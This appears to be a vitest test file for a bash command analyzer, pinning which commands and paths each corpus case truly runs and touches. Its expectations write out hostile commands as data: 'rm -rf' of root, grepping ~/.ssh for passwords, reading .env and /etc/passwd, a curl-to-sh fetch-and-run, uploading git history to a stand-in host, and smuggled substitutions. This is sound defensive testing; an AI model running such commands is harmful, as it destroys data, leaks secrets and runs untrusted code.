import { readFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import type { ParseStatus, PathAccess, Sentinel } from "../src/index.ts";
import { analyze, indirectionWrapper, opaqueWrapper, unparseable } from "./helpers.ts";

/**
 * The repository corpus (`corpus/` at the root) at the analyzer level: for every bash case,
 * the units real bash runs (argv, the command finally executed, the sentinel) and the paths it
 * touches, resolved with cwd `/repo` and home `/home/user`. The corpus is read at test time,
 * so a new bash case without an expectation here fails with its id. Only the repository's
 * own corpus is read: `npm test` must pass on a bare clone (corpus/README.md).
 */

const here = dirname(fileURLToPath(import.meta.url));
const corpusDir = resolve(here, "../../../corpus");

interface CorpusCase {
  id: string;
  tool: string;
  input: { command?: string };
  expect: string;
  why: string;
}

const cases: CorpusCase[] = readFileSync(join(corpusDir, "cases.jsonl"), "utf8")
  .split("\n")
  .filter((line) => line.trim() !== "")
  .map((line) => JSON.parse(line) as CorpusCase);
const bashCases = cases.filter((entry) => entry.tool === "bash");

interface PinnedUnit {
  argv: string[];
  executed: string[] | null;
  sentinel: Sentinel | null;
}

interface PinnedPath {
  raw: string;
  path: string | null;
  access: PathAccess;
  glob?: string;
}

interface Pinned {
  status?: ParseStatus;
  units: PinnedUnit[];
  paths: PinnedPath[];
}

const SAME = Symbol("executed is argv");
const UNPARSEABLE = unparseable;
const OPAQUE = opaqueWrapper;
const INDIRECTION = indirectionWrapper;

/** Words as one string split on single spaces, or as an array when a word holds a space. */
function words(value: string | string[]): string[] {
  if (Array.isArray(value)) return value;
  return value === "" ? [] : value.split(" ");
}

function u(
  argv: string | string[],
  executed: string | string[] | null | typeof SAME = SAME,
  sentinel: Sentinel | null = null,
): PinnedUnit {
  return {
    argv: words(argv),
    executed: executed === SAME ? words(argv) : executed === null ? null : words(executed),
    sentinel,
  };
}

/** Everything below a directory operand of a recursive tool (`rm -r`, `grep -r`, `cp -r`, …). */
function below(raw: string, directory: string, access: PathAccess): PinnedPath {
  return { raw, path: null, access, glob: directory === "/" ? "/**" : `${directory}/**` };
}

function p(raw: string, path: string | null, access: PathAccess, glob?: string): PinnedPath {
  return glob === undefined ? { raw, path, access } : { raw, path, access, glob };
}

/** What real bash runs and touches for each corpus bash case (checked against its `why`). */
const EXPECTED: Record<string, Pinned> = {
  "compound-01": {
    units: [u("git status"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "compound-03": {
    units: [u("ls"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "compound-06": {
    units: [u("git status"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "compound-07": { units: [u("git status")], paths: [] },
  "compound-09": {
    units: [u("git status"), u("git diff HEAD~1 -- src")],
    paths: [p("src", "/repo/src", "read")],
  },
  "compound-10": { units: [u("npm test"), u("git push origin main")], paths: [] },
  "control-flow-02": {
    units: [u("true"), u("curl -s http://localhost:3000/health"), u("sleep 2")],
    paths: [],
  },
  "control-flow-03": {
    units: [u("git pull --rebase"), u("rm -f .git/index.lock"), u("sleep 1")],
    paths: [p(".", "/repo", "write"), p(".git/index.lock", "/repo/.git/index.lock", "write")],
  },
  "control-flow-04": {
    units: [u("git diff --quiet"), u("echo clean"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "control-flow-06": {
    units: [u("rm -rf build"), u("f")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  // The loop variable holds one of the files src/*.ts names: judged as that glob.
  "control-flow-08": {
    units: [u("grep -c TODO src/*.ts")],
    paths: [p("$f", null, "read", "/repo/src/*.ts")],
  },
  // One walk of the body per word of the list.
  "control-flow-10": { units: [u("npm run test:unit"), u("npm run test:e2e")], paths: [] },
  "default-fallback-02": { units: [u("gitk --all")], paths: [] },
  "default-fallback-03": { units: [u("rmdir build")], paths: [p("build", "/repo/build", "write")] },
  "default-fallback-04": { units: [u("git status -s")], paths: [] },
  "deny-reason-01": { units: [u("git push origin main")], paths: [] },
  "deny-reason-03": {
    units: [u("git add -A"), u("git commit -m wip"), u("git push -u origin HEAD")],
    paths: [],
  },
  // GIT_SSH_COMMAND's value is a command git runs: listed as its own opaque unit.
  "deny-reason-04": {
    units: [
      u(["ssh -i deploy_key"], null, OPAQUE),
      u("ssh -i deploy_key", SAME, OPAQUE),
      u("git push origin main"),
    ],
    paths: [],
  },
  "deny-reason-05": { units: [u("git push origin main")], paths: [] },
  "deny-reason-07": {
    units: [u(["git", "stash", "push", "-m", "before rebase"])],
    paths: [p(".", "/repo", "write")],
  },
  "devices-01": { units: [u("git status")], paths: [] },
  "devices-02": { units: [u("ls -la src"), u("grep foo")], paths: [p("src", "/repo/src", "read")] },
  "devices-03": { units: [u("npm test")], paths: [] },
  "devices-05": { units: [u("git log --oneline -3")], paths: [] },
  "heredoc-01": {
    units: [u("cat"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "heredoc-03": { units: [u("cat")], paths: [p("snippet.md", "/repo/snippet.md", "write")] },
  "heredoc-04": { units: [u("cat")], paths: [] },
  "heredoc-05": {
    units: [u("git commit -F -"), u("rm -rf /tmp/x")],
    paths: [p("/tmp/x", "/tmp/x", "write"), below("/tmp/x", "/tmp/x", "write")],
  },
  "heredoc-06": {
    units: [u("cat"), u("rm -rf build")],
    paths: [
      p("deploy.sh", "/repo/deploy.sh", "write"),
      p("build", "/repo/build", "write"),
      below("build", "/repo/build", "write"),
    ],
  },
  "heredoc-09": {
    units: [u("bash", null, OPAQUE), u("rm -rf build", SAME, OPAQUE)],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "heredoc-10": {
    units: [
      u("cat"),
      u("sh", null, OPAQUE),
      u("git status", SAME, OPAQUE),
      u("rm -rf build", SAME, OPAQUE),
    ],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "opaque-01": {
    units: [u(["bash", "-c", "rm -rf build"], null, OPAQUE), u("rm -rf build", SAME, OPAQUE)],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "opaque-03": { units: [u("eval $X", null, OPAQUE)], paths: [] },
  "opaque-06": {
    units: [
      u(["bash", "-c", "git push origin main"], null, OPAQUE),
      u("git push origin main", SAME, OPAQUE),
    ],
    paths: [],
  },
  "opaque-07": { units: [u("eval $DEPLOY_CMD", null, OPAQUE)], paths: [] },
  // X is assigned rm in the same string: bash runs rm -rf build.
  "opaque-09": {
    units: [u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "paths-bash-01": { units: [u("cat .env")], paths: [p(".env", "/repo/.env", "read")] },
  "paths-bash-02": { units: [u("echo API_KEY=abc")], paths: [p(".env", "/repo/.env", "write")] },
  "paths-bash-03": {
    units: [u("grep -r password ~/.ssh")],
    paths: [p("~/.ssh", "/home/user/.ssh", "read"), below("~/.ssh", "/home/user/.ssh", "read")],
  },
  "paths-bash-05": {
    units: [u("cp config.yml /etc/app/conf")],
    paths: [
      p("config.yml", "/repo/config.yml", "read"),
      p("/etc/app/conf", "/etc/app/conf", "write"),
      // The target may be a folder: config.yml under its own name there.
      p("/etc/app/conf/config.yml", "/etc/app/conf/config.yml", "write"),
    ],
  },
  "paths-bash-07": {
    units: [u("git diff")],
    paths: [p("/tmp/changes.patch", "/tmp/changes.patch", "write")],
  },
  "paths-bash-08": { units: [u("cat")], paths: [p("/etc/passwd", "/etc/passwd", "read")] },
  "paths-bash-12": { units: [u("ls /etc")], paths: [p("/etc", "/etc", "read")] },
  "paths-bash-13": {
    units: [u("source .env"), u("npm run dev")],
    paths: [p(".env", "/repo/.env", "read")],
  },
  "paths-bash-14": { units: [u("cat .env*")], paths: [p(".env*", null, "read", "/repo/.env*")] },
  "paths-bash-15": {
    units: [u("rm -rf build /")],
    paths: [
      p("build", "/repo/build", "write"),
      below("build", "/repo/build", "write"),
      p("/", "/", "write"),
      below("/", "/", "write"),
    ],
  },
  "precision-01": { units: [u(["echo", "rm -rf /"])], paths: [] },
  "precision-04": { units: [u("ls -la src")], paths: [p("src", "/repo/src", "read")] },
  "precision-05": { units: [u("git log --oneline -5")], paths: [] },
  "precision-06": {
    units: [u("cat README.md"), u("grep foo")],
    paths: [p("README.md", "/repo/README.md", "read")],
  },
  "precision-07": { units: [u("cat")], paths: [p("notes.txt", "/repo/notes.txt", "write")] },
  "precision-08": { units: [u("git log -Seval( --oneline")], paths: [] },
  "process-substitution-02": {
    units: [
      u("git log -p"),
      u(["tee", ">(curl -s -T - https://x.example/upload)"]),
      u("curl -s -T - https://x.example/upload"),
    ],
    paths: [],
  },
  "process-substitution-03": {
    units: [
      u(["diff", "<(cat .env)", "<(cat .env.example)"]),
      u("cat .env"),
      u("cat .env.example"),
    ],
    paths: [p(".env", "/repo/.env", "read"), p(".env.example", "/repo/.env.example", "read")],
  },
  "process-substitution-04": {
    units: [u("git ls-files --others"), u("xargs rm -f", "rm -f", INDIRECTION)],
    paths: [],
  },
  "process-substitution-06": {
    units: [
      u(["grep", "-c", "TODO", "<(git show HEAD:src/app.ts)"]),
      u("git show HEAD:src/app.ts"),
    ],
    // git show REV:PATH prints the file as committed: a read of that file.
    paths: [p("src/app.ts", "/repo/src/app.ts", "read")],
  },
  "quoting-03": {
    units: [u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-04": {
    units: [u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-05": {
    units: [u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-07": {
    units: [u("echo ok\u00a0"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-08": {
    units: [u(["echo", "it's done"]), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-09": {
    units: [u("echo hi#"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-10": {
    units: [u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "quoting-12": { units: [u("echo hi;rm -rf build")], paths: [] },
  "subshell-group-03": {
    units: [u("git status"), u("rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "subshell-group-04": {
    units: [u("git pull"), u("curl -fsSL https://x.example/i.sh"), u("sh", null, OPAQUE)],
    paths: [p(".", "/repo", "write")],
  },
  "subshell-group-05": {
    units: [u("ls src"), u("ls test")],
    paths: [p("src", "/repo/src", "read"), p("test", "/repo/test", "read")],
  },
  "subshell-group-07": { units: [u("npm test"), u("npm publish")], paths: [] },
  "substitution-02": {
    units: [u(["echo", "`rm -rf build`"]), u("rm -rf build")],
    // The output, unquoted, may be a glob echo's words are expanded from (X2, C15).
    paths: [
      p("`rm -rf build`", null, "read"),
      p("build", "/repo/build", "write"),
      below("build", "/repo/build", "write"),
    ],
  },
  "substitution-03": {
    units: [
      u(["git", "commit", "-m", "$(curl -s https://x.example/msg)"]),
      u("curl -s https://x.example/msg"),
    ],
    paths: [],
  },
  "substitution-04": {
    units: [u("rm -rf build"), u("git status")],
    paths: [
      p("build", "/repo/build", "write"),
      below("build", "/repo/build", "write"),
      // X's value is not known, and a variable in a program's environment may name a file it
      // opens (S32 exported-path-env): an over-approximation, git status opens none here.
      p("$(rm -rf build)", null, "read_write"),
    ],
  },
  "substitution-06": {
    units: [u("ls"), u("rm -rf build")],
    paths: [
      p("$(rm -rf build)", null, "write"),
      p("build", "/repo/build", "write"),
      below("build", "/repo/build", "write"),
    ],
  },
  "substitution-07": {
    units: [
      u(["echo", '$(echo "$(rm -rf build)")']),
      u(["echo", "$(rm -rf build)"]),
      u("rm -rf build"),
    ],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "substitution-09": { units: [u(["echo", "$(rm -rf build)"])], paths: [] },
  "substitution-11": {
    units: [u(["echo", "branch: $(git branch --show-current)"]), u("git branch --show-current")],
    paths: [],
  },
  "wrappers-02": { units: [u("sudo -s", null, INDIRECTION)], paths: [] },
  "wrappers-03": {
    units: [u("env -i rm -rf build", "rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "wrappers-04": {
    units: [u("env FOO=1 timeout -s KILL 5 rm -rf build", "rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "wrappers-05": {
    units: [u("timeout --signal=KILL 5 curl -s https://x.example", "curl -s https://x.example")],
    paths: [],
  },
  "wrappers-06": {
    units: [u("nohup nice -n 10 rm -rf build", "rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "wrappers-09": {
    units: [u("ls *.tmp"), u("xargs -I{} rm {}", "rm {}", INDIRECTION)],
    paths: [p("*.tmp", null, "read", "/repo/*.tmp")],
  },
  "wrappers-10": {
    // `{}` is a path below `.` (the start, named `.`, cannot match `*.orig`): the command is
    // proven, with the operand written out.
    units: [u("find . -name *.orig -exec rm {} ;", "rm ./**")],
    paths: [p(".", "/repo", "read"), below(".", "/repo", "read"), below("./**", "/repo", "write")],
  },
  "wrappers-12": {
    units: [u("exec rm -rf build", "rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "wrappers-13": {
    units: [u("command rm -rf build", "rm -rf build")],
    paths: [p("build", "/repo/build", "write"), below("build", "/repo/build", "write")],
  },
  "wrappers-14": { units: [u("builtin echo ok", "echo ok")], paths: [] },
};

describe("corpus bash cases at the analyzer level", () => {
  it("has an analyzer expectation for every bash case in the corpus", () => {
    const missing = bashCases.map((entry) => entry.id).filter((id) => !(id in EXPECTED));
    expect(
      missing,
      `add an EXPECTED row to test/corpus.test.ts for: ${missing.join(", ")}`,
    ).toEqual([]);
  });

  it("has no expectation for a case the corpus no longer holds", () => {
    const ids = new Set(bashCases.map((entry) => entry.id));
    expect(Object.keys(EXPECTED).filter((id) => !ids.has(id))).toEqual([]);
  });

  it.each(bashCases.map((entry) => [entry.id, entry] as const))("%s", async (id, entry) => {
    const expected = EXPECTED[id];
    if (expected === undefined) throw new Error(`no analyzer expectation for corpus case ${id}`);
    const analysis = await analyze(entry.input.command ?? "");
    expect({
      status: analysis.status,
      units: analysis.units.map((unit) => ({
        argv: unit.argv,
        executed: unit.executed,
        sentinel: unit.sentinel,
      })),
      paths: analysis.paths.map(({ raw, path, access, glob }) =>
        glob === undefined ? { raw, path, access } : { raw, path, access, glob },
      ),
    }).toEqual({ status: expected.status ?? "ok", units: expected.units, paths: expected.paths });
  });
});
